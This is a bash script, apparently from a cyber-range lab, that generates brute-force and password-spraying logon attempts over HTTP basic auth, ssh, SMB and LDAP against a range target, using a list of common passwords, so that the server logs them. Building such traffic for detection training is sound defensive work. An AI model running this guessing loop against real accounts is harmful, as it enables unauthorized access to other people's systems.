#!/bin/bash
# The guessing generator, brute force or spraying. Brute force: password
# guesses from a list against one account (the list never holds a range's
# real password). Spraying: one password against many accounts in turn.
# Each guess is a real logon: HTTP basic auth, ssh, an SMB session setup
# (smbclient, NTLM) or an LDAP bind (ldbsearch, NTLM), which the server
# logs (the directory: /var/log/samba/auth.log); `ssh` falls back to plain
# TCP connects where sshpass is missing.
# Runs inside the target range container (`bash -c`, after pause.sh,
# started by launch.sh).
# Arguments: $1 address, $2 port, $3 path, $4 count, $5 interval (ms),
# $6 users (space-separated, tried in turn), $7 method (http, ssh, smb,
# ldap or connect), $8 the spray's password (empty: brute force).
to=$1 port=$2 path=$3 count=$4 interval=$5 method=$7 spray_password=${8:-}
read -r -a users <<<"$6"
((${#users[@]})) || users=(admin)
passwords=(123456 password admin qwerty letmein Passw0rd welcome1 P@ssw0rd admin123 12345678 iloveyou abc123 111111 dragon monkey)
[ "$method" = ssh ] && ! command -v sshpass >/dev/null 2>&1 && method=connect
for ((i = 1; i <= count; i++)); do
  user=${users[$(( (i - 1) % ${#users[@]} ))]}
  if [ -n "$spray_password" ]; then
    password=$spray_password
  else
    password=${passwords[$(( (i - 1) % ${#passwords[@]} ))]}
  fi
  # shellcheck disable=SC2016 # $0 and $1 of `bash -c` below are its own arguments
  case $method in
    http) curl -s -o /dev/null -m 5 -u "$user:$password" "http://$to:$port$path" || true ;;
    ssh) sshpass -p "$password" ssh -n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 \
           -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
           -p "$port" "$user@$to" true >/dev/null 2>&1 || true ;;
    smb) timeout 10 smbclient -L "//$to" -p "$port" -m SMB3 -U "$user%$password" -t 5 >/dev/null 2>&1 </dev/null || true ;;
    ldap) timeout 10 ldbsearch -H "ldap://$to:$port" -U "$user%$password" --use-kerberos=off \
            -s base -b '' dn >/dev/null 2>&1 </dev/null || true ;;
    *) timeout 5 bash -c 'exec 3<>"/dev/tcp/$0/$1"' "$to" "$port" 2>/dev/null || true ;;
  esac
  ((i < count)) && pause "$interval" 0
done
